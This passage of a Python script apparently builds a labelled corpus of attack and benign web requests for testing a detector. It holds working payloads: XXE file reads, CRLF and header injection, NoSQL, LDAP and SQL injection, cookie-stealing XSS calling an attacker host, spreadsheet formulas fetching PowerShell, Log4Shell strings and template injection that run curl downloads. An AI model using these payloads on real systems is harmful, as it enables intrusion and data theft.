    files = [(xliff, "messages.de.xlf", "application/x-xliff+xml", 1), (xliff_xinc, "app.fr.xliff", "application/xml", 1), (xliff_meta, "strings-ja.xlf", "application/xliff+xml", 1),
             (rss, "podcast-feed.xml", "application/rss+xml", 2), (lol, "feed.rss", "application/rss+xml", 2), (opml, "subscriptions.opml", "text/x-opml", 0),
             (xcal, "team-calendar.xml", "application/calendar+xml", 0), (excel, "budget-2025.xml", "application/vnd.ms-excel", 0), (word, "minutes.xml", "application/xml", 0),
             (fodt, "letter.fodt", "application/vnd.oasis.opendocument.text-flat-xml", 3), (sitemap, "sitemap.xml", "text/xml", 2)]
    for i, (content, name, ct, v) in enumerate(files):
        a_upload(c, X, content, name, ct, v=v)
    # import endpoints that take the XML as the request body
    c.add("upload", X, "POST", "www.rivertown-gazette.com", "/api/feeds/import", "application/xml", rss.replace("file:///etc/passwd", "file:///proc/self/environ"), accept=ACCEPT_JSON)
    c.add("ical-vcard", X, "PUT", "dav.groupware.kestrel-media.net", "/calendars/jonas/personal/event.xml", "application/calendar+xml", xcal, accept="*/*", origin=False)
    c.add("upload", X, "POST", "translate.inkwell.app", "/api/projects/12/import?format=xliff", "application/xliff+xml", xliff.replace("file:///etc/passwd", "file:///var/www/.env"), accept=ACCEPT_JSON)
    # e-invoice (UBL) attached to an inbound e-mail
    ubl = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Invoice [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<Invoice xmlns="urn:oasis:names:tc:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:tc:ubl:schema:xsd:CommonBasicComponents-2">'
           '<cbc:ID>INV-2024-0631</cbc:ID><cbc:IssueDate>2024-06-10</cbc:IssueDate><cbc:Note>&xxe;</cbc:Note></Invoice>\n')
    a_mail(c, X, ubl, field="attachment-xml", v=0)
    a_mail(c, X, ubl.replace("file:///etc/passwd", "http://169.254.169.254/latest/meta-data/"), field="attachment-xml", v=1)
    # UTF-16 encoded SVG (not UTF-8 text: raw_b64)
    svg16 = ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><text y="20">&xxe;</text></svg>').encode("utf-16")
    c.upload("encoded", X, "blog.fernhill-studio.com", "/wp-admin/async-upload.php", [("name", "chart.svg"), ("action", "upload-attachment"), ("async-upload", svg16, "chart.svg", "image/svg+xml")])


def atk_crlf(c):
    C = "crlf"
    a_mail(c, C, "Dana\r\nBcc: list1@victims.example, list2@victims.example", field="form-name", v=0)
    a_mail(c, C, "Volunteering\r\nBcc: everyone@victims.example\r\n\r\nCheap watches at http://%s/" % ATK, field="form-subject", v=0)
    a_mail(c, C, "dana@example.com\nCc: target@victims.example", field="form-email", v=0)
    a_mail(c, C, "dana@example.com\r\nContent-Type: text/html\r\n\r\n<a href=http://%s/>verify your account</a>" % ATK, field="form-email", v=0)
    a_mail(c, C, "dana@example.com\r\nBcc: all-staff@brightlane.co", field="json-replyto", v=0)
    a_mail(c, C, "Re: order\r\nBcc: attacker@evil.example", field="subject", v=0)
    a_mail(c, C, "Re: order\r\nReply-To: attacker@evil.example\r\nX-Priority: 1", field="subject", v=1)
    a_mail(c, C, "support@tidewater-outfitters.com\r\nBcc: attacker@evil.example", field="to", v=0)
    # response splitting in the redirect after posting a comment / downloading an attachment
    a_query(c, C, "www.rivertown-gazette.com", "/comments/return?next=%2F2024%2F06%2Fspring-fair%0d%0aSet-Cookie:%20sessionid=attacker-fixed-session")
    a_query(c, C, "tidewater.freshdesk.com", "/attachments/download?id=5532&name=report.pdf%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(document.domain)%3C/script%3E")
    a_query(c, C, "community.saltmarsh.org", "/login?redirect=%0D%0ALocation:%20https://" + ATK + "/phish")
    a_query(c, C, "blog.fernhill-studio.com", "/?lang=en%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1")
    a_filename(c, C, "report.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", v=2)
    # iCalendar / vCard property injection through JSON fields serialised into .ics/.vcf
    a_ical(c, C, "Sprint planning\r\nATTENDEE;RSVP=TRUE:mailto:attacker@evil.example\r\nATTACH:http://%s/invite.exe" % ATK, prop="JSON:summary", v=0)
    a_ical(c, C, "Room 3B\nORGANIZER:mailto:ceo@brightlane.co", prop="JSON:location", v=0)
    c.json_req("ical-vcard", C, "POST", "crm.lindenhof-partners.de", "/api/contacts", {"firstName": "Dana", "lastName": "Cohen\r\nEMAIL;TYPE=pref:attacker@evil.example\r\nURL:http://%s/" % ATK, "email": "dana.cohen@example.co.il"})
    c.form_post("comment", C, "blog.fernhill-studio.com", "/wp-comments-post.php",
                [("comment", "Lovely photos!"), ("author", "Dana"), ("email", "dana@example.com"), ("comment_post_ID", "812"),
                 ("redirect_to", "https://blog.fernhill-studio.com/2024/06/spring-fair/\r\nSet-Cookie: wordpress_logged_in=attacker-fixed")])
    a_comment(c, C, "Dana%0d%0aSet-Cookie:%20role=admin", v=4, field="name")


def atk_nosqli(c):
    N = "nosqli"
    rng = c.rng
    c.json_req("comment", N, "POST", "www.rivertown-gazette.com", "/api/comments/query", {"articleId": {"$ne": None}, "status": {"$ne": "deleted"}})
    c.json_req("comment", N, "DELETE", "www.rivertown-gazette.com", "/api/comments", {"_id": {"$gt": ""}, "author": "dana"})
    c.json_req("comment", N, "POST", "www.rivertown-gazette.com", "/api/comments/search", {"$where": "sleep(5000) || true"})
    c.json_req("comment", N, "POST", "chat.teamharbor.io", "/api/v4/posts/search", {"terms": "hello", "user_id": {"$regex": "^adm"}, "is_or_search": False})
    c.json_req("comment", N, "POST", "app.clearpath-tasks.com", "/api/comments/edit", {"commentId": {"$ne": "000000000000000000000000"}, "body": "edited"})
    c.json_req("comment", N, "POST", "www.rivertown-gazette.com", "/api/comments/search", {"text": {"$regex": ".*"}, "$where": "this.password.match(/^a.*/)"})
    c.json_req("comment", N, "POST", "community.saltmarsh.org", "/api/posts/find", {"filter": {"$or": [{}, {"a": "a"}]}, "limit": 1000})
    c.json_req("comment", N, "POST", "community.saltmarsh.org", "/api/posts/find", {"filter": {"$expr": {"$function": {"body": "function(){var d=new Date();do{var c=new Date();}while(c-d<5000);return true}", "args": [], "lang": "js"}}}})
    c.json_req("comment", N, "POST", "community.saltmarsh.org", "/api/posts/aggregate", {"pipeline": [{"$lookup": {"from": "users", "localField": "author", "foreignField": "_id", "as": "u"}}, {"$project": {"u.password": 1, "u.email": 1}}]})
    c.json_req("comment", N, "POST", "tidewater.zendesk.com", "/api/v2/tickets/lookup", {"requester": {"email": {"$nin": ["nobody@example.com"]}}, "reset_token": {"$exists": True}})
    for host, uri in [("www.rivertown-gazette.com", "/api/comments?author[$ne]=x&status[$ne]=hidden"), ("community.saltmarsh.org", "/search.json?q[$regex]=.*&user[$gt]="),
                      ("shop.mapleandoak.com", "/api/reviews?product=oak-serving-board&rating[$gte]=0&author[$where]=sleep(5000)"),
                      ("www.rivertown-gazette.com", "/search?q=" + q("'; return true; var x='") + "&type=comments"),
                      ("chat.teamharbor.io", "/api/v4/users/autocomplete?name[$regex]=%5Ea&in_team=1")]:
        a_query(c, N, host, uri)
    a_editor_json(c, N, {"title": "Notes", "owner": {"$ne": None}, "content": {"type": "doc", "content": []}}, "raw")
    c.form_post("mail-webhook", N, "hooks.helpdesk-app.com", "/inbound/mailgun", [("recipient[$ne]", "x"), ("sender", "customer@gmail.com"), ("subject", "Re: order"), ("body-plain", "thanks"),
                                                                                  ("timestamp", "1718012345"), ("token", rand_hex(rng, 50)), ("signature[$ne]", "x")], ua="mailgun/treq-22.2.0", accept="*/*", origin=False)
    c.form_post("comment", N, "www.rivertown-gazette.com", "/comments/delete", [("id[$gt]", ""), ("csrf", rand_token(rng, 32))])
    a_ical(c, N, {"$ne": None}, prop="JSON:calendarId", v=0)
    c.json_req("comment", N, "POST", "app.clearpath-tasks.com", "/api/mentions", {"query": {"$where": "function(){return this.role=='admin'}"}, "taskId": 4417})


def atk_ldapi(c):
    D = "ldapi"
    rng = c.rng
    for host, uri in [
        ("intranet.stmarys-school.ie", "/directory/search?q=" + q("*)(uid=*))(|(uid=*")),
        ("intranet.stmarys-school.ie", "/directory/search?name=" + q("admin)(&)")),
        ("wiki.northwind-labs.com", "/rest/api/search/user?cql=&username=" + q("*)(|(objectClass=*)")),
        ("intranet.stmarys-school.ie", "/people?cn=" + q("x*)(|(mail=*))")),
        ("intranet.stmarys-school.ie", "/directory/search?q=" + q("*)(userPassword=*")),
        ("wiki.northwind-labs.com", "/rest/api/search/user?username=" + q("jdoe)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example))")),
        ("intranet.stmarys-school.ie", "/directory/search?q=" + q("*))%00")),
        ("intranet.stmarys-school.ie", "/phonebook?surname=" + q("Smith)(|(telephoneNumber=*)(description=*)")),
    ]:
        a_query(c, D, host, uri)
    c.json_req("editor-json", D, "POST", "docs.tessellate.so", "/api/mentions/suggest", {"query": "*)(|(objectClass=person)(userPassword=*))", "limit": 8})
    c.json_req("editor-json", D, "POST", "wiki.northwind-labs.com", "/rest/mentions/1.0/suggest", {"prefix": "a*)(|(uid=*)", "spaceKey": "ENG"})
    c.form_post("comment", D, "intranet.stmarys-school.ie", "/directory/lookup", [("query", "*)(&(objectClass=user)(adminCount=1)"), ("csrf", rand_token(rng, 32))])
    a_comment(c, D, "@admin*)(|(cn=*))", v=2, field="body")
    a_ical(c, D, "*)(|(mail=*)", prop="JSON:attendee", v=0)
    a_mail(c, D, "*)(uid=*))(|(uid=*@tidewater-outfitters.com", field="to", v=1)


def long_html(rng, payload, size=6000, where=0.7):
    paras = []
    while sum(len(p) for p in paras) < size:
        paras.append("<p>%s</p>" % decorate(rng, rng.choice(PARAS)))
        if rng.random() < 0.15:
            paras.append("<h3>%s</h3>" % esc(rng.choice(REVIEW_TITLES)))
    paras.insert(int(len(paras) * where), payload)
    return "\n".join(paras)


def long_md(rng, payload, size=5000, where=0.7):
    parts = []
    while sum(len(p) for p in parts) < size:
        parts.append(markdown_doc(rng))
    parts.insert(int(len(parts) * where), payload)
    return "\n\n".join(parts)


def long_csv(rng, payload, rows=120, col=2):
    out = ["Date,Customer,Description,Amount,Status"]
    custs = ["Ren\u00e9e O'Connor", "M\u00fcller & S\u00f6hne GmbH", "Kobe Design", "Tidewater Outfitters", "Saltmarsh Trust", "Brightlane Ltd"]
    at = int(rows * 0.73)
    for r in range(rows):
        cells = ["2024-%02d-%02d" % (rng.randint(1, 6), rng.randint(1, 28)), rng.choice(custs), rng.choice(["Consulting (June)", "Licence renewal", "Workshop, 2 days", "Travel expenses", "Support retainer"]),
                 "%.2f" % rng.uniform(50, 9000), rng.choice(["paid", "open", "overdue"])]
        if r == at:
            cells[col] = payload
        out.append(csv_line(cells))
    return "\n".join(out) + "\n"


def atk_long(c):
    L = "long-content"
    rng = c.rng
    def wp(cat, doc):
        c.form_post(L, cat, "blog.fernhill-studio.com", "/wp-admin/post.php",
                    [("_wpnonce", rand_hex(rng, 10)), ("action", "editpost"), ("post_ID", str(rng.randint(100, 9000))), ("post_title", "Our year in review"), ("content", doc), ("save", "Save Draft")])
    wp("xss", long_html(rng, '<p>Photo gallery: <img src="/uploads/2024/06/gallery-12.jpg" alt="" width="640" onerror="fetch(\'https://%s/c?\'+document.cookie)"></p>' % ATK, 7000))
    c.json_req(L, "xss", "POST", "api.github.com", "/repos/acme/widgets/issues/4512/comments", {"body": long_md(rng, "Full trace is [here](javascript:fetch('//%s/'+document.cookie)) if you need it." % ATK, 6000)},
               accept="application/vnd.github+json", extra=[("Authorization", "Bearer ghp_" + rand_token(rng, 36))], origin=False)
    c.upload(L, "generic", "sheets.gridwise.app", "/api/workbooks/%s/import" % rand_hex(rng, 12), [("mode", "append"), ("file", long_csv(rng, "=cmd|' /C powershell -w hidden IEX(iwr http://%s/a.ps1)'!A0" % ATK, 160, 2), "invoices-2024.csv", "text/csv")])
    c.upload(L, "sqli", "crm.lindenhof-partners.de", "/contacts/import", [("_token", rand_token(rng, 40)), ("csv_file", long_csv(rng, "Tidewater'; UPDATE users SET role='admin' WHERE email='attacker@evil.example';--", 110, 1), "customers.csv", "text/csv")], accept=ACCEPT_HTML)
    msgs = [{"user": rng.choice(NAMES), "ts": 1718000000 + k * 97, "text": rng.choice(CHAT + COMMENTS)} for k in range(60)]
    msgs.insert(44, {"user": "ops-bot", "ts": 1718004321, "text": "deploy failed for ${jndi:ldap://%s:1389/Basic/Command/Base64/Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9zLnNofHNo}" % ATK})
    c.json_req(L, "java", "POST", "chat.teamharbor.io", "/api/v4/channels/import", {"channel": "town-square", "messages": msgs})
    kind, subject, sender = MAIL_KINDS[0]
    text, htmlb = mail_bodies(rng, kind, subject, sender)
    htmlb = htmlb.replace("</td></tr>\n<tr><td class=\"btn\"", "".join("<p>%s</p>" % esc(p) for p in rng.sample(PARAS, 12)) + "<iframe srcdoc=\"&lt;script&gt;top.location='https://%s/?'+top.document.cookie&lt;/script&gt;\" style=\"display:none\"></iframe>" % ATK + "".join("<p>%s</p>" % esc(p) for p in rng.sample(PARAS, 6)) + "</td></tr>\n<tr><td class=\"btn\"")
    c.upload(L, "xss", "hooks.helpdesk-app.com", "/inbound/sendgrid?key=%s" % rand_hex(rng, 16),
             [("headers", "From: %s\nSubject: %s\nTo: support@tidewater-outfitters.com\n" % (sender, subject)), ("to", "support@tidewater-outfitters.com"), ("from", sender), ("subject", subject), ("text", text), ("html", htmlb), ("attachments", "0")],
             ua="Sendlib/1.0 mx0047p1mdw1.sendgrid.net", accept="*/*", origin=False)
    c.json_req(L, "ssti", "PUT", "wiki.northwind-labs.com", "/rest/api/content/%d" % rng.randint(100000, 9999999),
               {"type": "page", "title": "Runbook: payment retries", "version": {"number": 31}, "body": {"storage": {"representation": "storage", "value":
                long_html(rng, "<p>#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('curl http://%s/s.sh -o /tmp/s.sh'))$ex.waitFor()</p>" % ATK, 5500)}}})
    d = editorjs(rng, rng.sample(PARAS, 14))
    d["blocks"].insert(11, {"id": rand_token(rng, 10), "type": "raw", "data": {"html": "<script>new Image().src='https://%s/c?'+document.cookie</script>" % ATK}})
    c.json_req(L, "xss", "POST", "cms.lighthouse-press.org", "/api/articles/%d/content" % rng.randint(1, 9000), d)
    dq = quill_delta(rng, rng.sample(PARAS, 16))
    dq["ops"].insert(len(dq["ops"]) * 3 // 4, {"insert": "the signed contract", "attributes": {"link": "javascript:fetch('https://%s/?t='+localStorage.token)" % ATK}})
    c.json_req(L, "xss", "POST", "app.clearpath-tasks.com", "/api/tasks/%d/comments" % rng.randint(1000, 99999), {"delta": dq, "mentions": []})
    cards = []
    for k in range(30):
        fn, ln, org, title, tel, mail, adr, note = VCARDS[k % len(VCARDS)]
        orgv = org if k != 22 else "=HYPERLINK(\"http://%s/?c=\"&A1,\"Open profile\")" % ATK
        cards.append("BEGIN:VCARD\r\nVERSION:3.0\r\nN:%s;%s;;;\r\nFN:%s %s\r\nORG:%s\r\nEMAIL:%s\r\nTEL:%s\r\nEND:VCARD\r\n" % (ln, fn, fn, ln, orgv.replace(",", "\\,") if k != 22 else orgv, mail, tel))
    c.upload(L, "generic", "crm.lindenhof-partners.de", "/contacts/import/vcard", [("_token", rand_token(rng, 40)), ("file", "".join(cards), "iCloud vCards.vcf", "text/vcard")], accept=ACCEPT_HTML)
    c.form_post(L, "ssti", "community.saltmarsh.org", "/posts", [("raw", long_md(rng, "Quick test of the new template tags: {{ cycler.__init__.__globals__.os.popen('id').read() }}", 4500)), ("topic_id", "8812"), ("archetype", "regular")],
                accept=ACCEPT_JSON, extra=[("X-CSRF-Token", rand_token(rng, 86))])
    c.json_req(L, "sqli", "POST", "tidewater.zendesk.com", "/api/v2/tickets.json",
               {"ticket": {"subject": "Bulk import fails at row 1,204", "comment": {"body": "\n\n".join(rng.sample(TICKET_BODIES, 6) + ["Order ref: 58213' AND (SELECT 1 FROM (SELECT SLEEP(10))x)-- -"] + rng.sample(PARAS, 10))},
                           "requester": {"name": "Dana Cohen", "email": "dana.cohen@example.co.il"}}})
    wp("ssrf", long_html(rng, '<p><img src="http://169.254.169.254/latest/meta-data/iam/security-credentials/" alt="graph" width="600"></p>', 5200))
    c.json_req(L, "xss", "POST", "stories.greenleaf-ngo.org", "/wp-json/wp/v2/posts/%d" % rng.randint(100, 9000),
               {"title": "Annual report", "status": "draft", "content": "\n\n".join([gutenberg(rng, rng.sample(PARAS, 8)), "<!-- wp:html -->\n<svg><animate onbegin=\"alert(document.domain)\" attributeName=\"x\" dur=\"1s\"/></svg>\n<!-- /wp:html -->", gutenberg(rng, rng.sample(PARAS, 3))])},
               extra=[("X-WP-Nonce", rand_hex(rng, 10))])
    ics = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Google Inc//Google Calendar 70.9054//EN"]
    for k in range(25):
        s_, l_, d_ = EVENTS[k % len(EVENTS)]
        ics += ["BEGIN:VEVENT", "UID:%s@google.com" % rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"), "DTSTART:202407%02dT090000Z" % (k % 28 + 1), "DTEND:202407%02dT100000Z" % (k % 28 + 1),
                "SUMMARY:" + ics_escape(s_) if k != 19 else "SUMMARY:Quarterly review ${jndi:ldap://%s/cal}" % ATK, "DESCRIPTION:" + ics_escape(d_), "END:VEVENT"]
    ics.append("END:VCALENDAR")
    c.upload(L, "java", "cal.clearpath-tasks.com", "/api/calendars/primary/import", [("file", "\r\n".join(fold(x) for x in ics) + "\r\n", "team-calendar.ics", "text/calendar")])


def atk_encoded(c):
    L = "encoded"
    rng = c.rng
    c.json_req(L, "xss", "POST", "chat.teamharbor.io", "/api/v4/posts", {"channel_id": rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"), "message": "<img src=x onerror=alert(document.cookie)>"}, html_safe=True)
    c.json_req(L, "xss", "POST", "www.rivertown-gazette.com", "/api/comments", {"articleId": 4512, "body": "Great read <svg onload=fetch('//%s/'+document.cookie)>" % ATK, "displayName": "Dana"}, html_safe=True)
    body = '{"delta":{"ops":[{"insert":"see "},{"insert":"report","attributes":{"link":"\\u006a\\u0061\\u0076\\u0061\\u0073\\u0063\\u0072\\u0069\\u0070\\u0074:alert(document.cookie)"}},{"insert":"\\n"}]},"mentions":[]}'
    c.add(L, "xss", "POST", "app.clearpath-tasks.com", "/api/tasks/8812/comments", "application/json", body)
    c.json_req(L, "xss", "POST", "kb.brightlane.co", "/api/v2/articles/4471/comments", {"body_html": "&lt;img src=x onerror=alert(document.domain)&gt;", "decode_entities": True})
    c.json_req(L, "xss", "PUT", "portal.brightlane.co", "/api/v1/posts/88", {"html": "&#60;script&#62;alert(document.cookie)&#60;/script&#62;"})
    c.get(L, "xss", "www.rivertown-gazette.com", "/search?q=%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E")
    c.form_post(L, "xss", "www.rivertown-gazette.com", "/wp-comments-post.php", [("comment", "%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E"), ("author", "Dana"), ("email", "dana@example.com"), ("comment_post_ID", "4512")])
    a_editor_html(c, "xss", '<iframe src="data:text/html;base64,%s" width="0" height="0"></iframe>' % b64("<script>alert(document.domain)</script>"), v=1, label=L)
    a_editor_html(c, "xss", '<object data="data:text/html;base64,%s"></object>' % b64("<script>fetch('https://%s/c?'+document.cookie)</script>" % ATK), v=3, label=L)
    a_editor_html(c, "xss", '<embed src="data:image/svg+xml;base64,%s" type="image/svg+xml">' % b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'), v=0, label=L)
    a_editor_html(c, "xss", '<meta http-equiv="refresh" content="0;url=data:text/html;base64,%s">' % b64("<script>alert(document.cookie)</script>"), v=5, label=L)
    c.add(L, "java", "POST", "www.rivertown-gazette.com", "/api/comments", "application/json",
          '{"articleId":4512,"body":"\\u0024\\u007bjndi:ldap://%s:1389/u\\u007d","displayName":"Dana"}' % ATK)
    c.add(L, "ssti", "POST", "app.clearpath-tasks.com", "/api/me", "application/json",
          '{"displayName":"\\u007b\\u007b self.__init__.__globals__.__builtins__.__import__(\'os\').popen(\'id\').read() \\u007d\\u007d","locale":"en"}')
    c.get(L, "sqli", "shop.mapleandoak.com", "/search?q=mug%2527%2520OR%25201%253D1--%2520")
    c.get(L, "lfi", "files.cloudbox-drive.com", "/api/v2/preview?path=..%252f..%252f..%252f..%252fetc%252fpasswd")
    c.json_req(L, "lfi", "POST", "app.clearpath-tasks.com", "/api/attachments", {"taskId": 4417, "fileName": "..%2f..%2f..%2f..%2fetc%2fpasswd", "size": 1234})
    # UTF-7 HTML body in an inbound e-mail (charset declared by the sender)
    c.upload(L, "xss", "hooks.helpdesk-app.com", "/inbound/sendgrid?key=%s" % rand_hex(rng, 16),
             [("headers", "From: Dana <dana@example.com>\nSubject: hello\nContent-Type: text/html; charset=UTF-7\n"), ("to", "support@tidewater-outfitters.com"), ("from", "Dana <dana@example.com>"),
              ("subject", "hello"), ("html", "+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-"), ("text", "hello"),
              ("charsets", jdump({"to": "UTF-8", "html": "UTF-7", "subject": "UTF-8", "from": "UTF-8", "text": "UTF-8"})), ("attachments", "0")],
             ua="Sendlib/1.0 mx0047p1mdw1.sendgrid.net", accept="*/*", origin=False)
    # raw MIME with a base64 HTML part (SendGrid "post the raw, full MIME message")
    mime_html = base64.encodebytes(b"<html><body><p>Hi team,</p><img src=x onerror=\"fetch('https://attacker.example/c?'+document.cookie)\"></body></html>").decode()
    raw = ("From: Dana <dana@example.com>\r\nTo: support@tidewater-outfitters.com\r\nSubject: =?UTF-8?B?%s?=\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n"
           "--b1\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nHi team\r\n--b1\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n%s--b1--\r\n"
           % (b64("<svg onload=alert(document.domain)>"), mime_html))
    c.upload(L, "xss", "hooks.helpdesk-app.com", "/inbound/sendgrid-raw?key=%s" % rand_hex(rng, 16),
             [("email", raw), ("to", "support@tidewater-outfitters.com"), ("from", "Dana <dana@example.com>"), ("subject", "hello"), ("envelope", jdump({"to": ["support@tidewater-outfitters.com"], "from": "dana@example.com"}))],
             ua="Sendlib/1.0 mx0047p1mdw1.sendgrid.net", accept="*/*", origin=False)
    # base64 file contents in JSON APIs
    c.json_req(L, "xss", "PUT", "git.ourteam.dev", "/api/v1/repos/acme/widgets/contents/README.md",
               {"message": "docs: update", "content": b64("# Widgets\n\n[Install guide](javascript:alert(document.cookie))\n\n<img src=x onerror=alert(1)>\n"), "sha": rand_hex(rng, 40)})
    c.json_req(L, "generic", "POST", "sheets.gridwise.app", "/api/workbooks/import", {"fileName": "leads.csv", "contentBase64": b64("Name,Email,Note\nDana,dana@example.com,=cmd|' /C calc'!A0\n")})
    c.json_req(L, "xxe", "POST", "translate.inkwell.app", "/api/projects/12/import", {"format": "xliff", "file": b64('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xliff version="1.2"><file><body><trans-unit id="a"><source>&e;</source></trans-unit></body></file></xliff>')})


ATTACK_GENERATORS = [atk_xss, atk_generic, atk_sqli, atk_ssti, atk_java, atk_rce, atk_lfi, atk_rfi, atk_php, atk_ssrf, atk_xxe, atk_crlf, atk_nosqli, atk_ldapi, atk_long, atk_encoded]


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-content.py attacks|benign\n")
        return 2
    kind = argv[1]
    c = Corpus(kind)
    for g in (ATTACK_GENERATORS if kind == "attacks" else BENIGN_GENERATORS):
        g(c)
    out = sys.stdout
    for rec in c.lines:
        out.write(json.dumps(rec, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
